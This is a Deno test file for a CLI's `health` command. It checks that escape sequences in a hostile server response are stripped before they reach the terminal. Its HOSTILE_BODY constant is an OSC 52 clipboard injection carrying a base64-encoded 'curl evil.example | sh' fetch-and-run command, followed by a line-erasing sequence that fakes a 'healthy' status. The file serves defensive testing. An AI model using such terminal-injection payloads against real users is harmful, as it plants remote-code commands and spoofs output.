/**
 * Attack (r12, pins a guarantee): whatever listens where `skillgate health`
 * looks (a co-tenant that took 127.0.0.1:3000 while skillgate was down, a
 * `--url` of someone else's, or a redirect from either) chooses the answer
 * body the command quotes. It reaches the owner's terminal only escaped: an
 * OSC 52 sequence would set the clipboard, a CSI sequence could rewrite the
 * line. `runHealthCommand()` quotes the body as it is; `main.ts` escapes every
 * line a command writes (`safeTerminalText`), so the program as run is safe.
 */
import assert from "node:assert/strict";
import { runProgram } from "../support/program.ts";

const HOSTILE_BODY = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\rskillgate: healthy";

Deno.test("attack: a hostile health answer's escape sequences never reach the terminal", async () => {
  for (const status of [200, 503]) {
    const server = Deno.serve(
      { hostname: "127.0.0.1", port: 0, onListen: () => {} },
      () => new Response(HOSTILE_BODY, { status }),
    );
    try {
      const result = await runProgram([
        "health",
        `--url=http://127.0.0.1:${server.addr.port}/healthz`,
      ]);
      const written = `${result.stdout}${result.stderr}`;
      assert.equal(result.code, status === 200 ? 0 : 1, written);
      assert.ok(
        !written.includes("\x1b"),
        `status ${status}: ESC written: ${JSON.stringify(written)}`,
      );
      assert.ok(!written.includes("\x07"), `status ${status}: BEL written`);
      assert.ok(!written.slice(0, -1).includes("\r"), `status ${status}: CR written mid-line`);
    } finally {
      await server.shutdown();
    }
  }
});
